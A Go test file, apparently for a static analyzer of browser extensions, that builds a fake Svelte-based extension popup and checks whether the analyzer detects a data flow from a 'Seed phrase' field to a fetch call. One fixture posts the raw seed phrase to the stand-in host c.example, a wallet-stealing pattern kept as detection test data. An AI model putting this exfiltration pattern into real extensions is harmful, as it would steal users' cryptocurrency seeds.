package behavior

import "testing"

// Svelte 4 compiles a component to functions that one of its library starts. It is long, and names nothing of interest.
func TestStartOfComponent(t *testing.T) {
	const library = `let current; function listen(n, e, h) { n.addEventListener(e, h); return () => n.removeEventListener(e, h) }
function init(component, options, instance, create, equal, props) { const parent = current; current = component;
const $$ = component.$$ = {fragment: null, ctx: [], props, bound: {}, mounted: [], destroyed: [], before: [], after: [], context: new Map(options.context || (parent ? parent.$$.context : [])), dirty: [-1], skip: false};
let ready = false; $$.ctx = instance ? instance(component, options.props || {}, (i, ret, ...rest) => { const value = rest.length ? rest[0] : ret; if ($$.ctx && equal($$.ctx[i], $$.ctx[i] = value)) { if (!$$.skip && $$.bound[i]) $$.bound[i](value); if (ready) $$.dirty[0] |= 1 << i } return ret }) : [];
ready = true; $$.before.forEach(f => f()); $$.fragment = create ? create($$.ctx) : false;
if (options.target) { $$.fragment && $$.fragment.c(); $$.fragment.m(options.target, options.anchor); $$.after.forEach(f => f()) } current = parent }
function create(ctx) { let t, b; return {c() { t = document.createElement("textarea"); b = document.createElement("button"); t.placeholder = "Seed phrase" }, m(to) { to.append(t, b); listen(t, "input", ctx[2]); listen(b, "click", ctx[1]) }} }
class App { constructor(options) { init(this, options, instance, create, (a, b) => a != b, {}) } }
`
	for handler, want := range map[string]bool{
		`function input() { phrase = this.value; changed(0, phrase) }`:        true,
		`function input() { phrase = this.value.length; changed(0, phrase) }`: false,
	} {
		r := analyzed(t, map[string]string{
			"manifest.json": `{"manifest_version": 3, "name": "x", "version": "1", "action": {"default_popup": "p.html"}}`,
			"p.html":        `<body><script src="p.js"></script>`,
			"p.js": library + `function instance(self, props, changed) { let phrase = ""; async function save() { await fetch("https://c.example/", {method: "POST", body: phrase}) } ` +
				handler + ` return [phrase, save, input] } new App({target: document.body})`,
		})
		if got := hasFlow(r, "seed_input", "fetch", "c.example"); got != want {
			t.Errorf("%s: %v", handler, got)
		}
	}
}
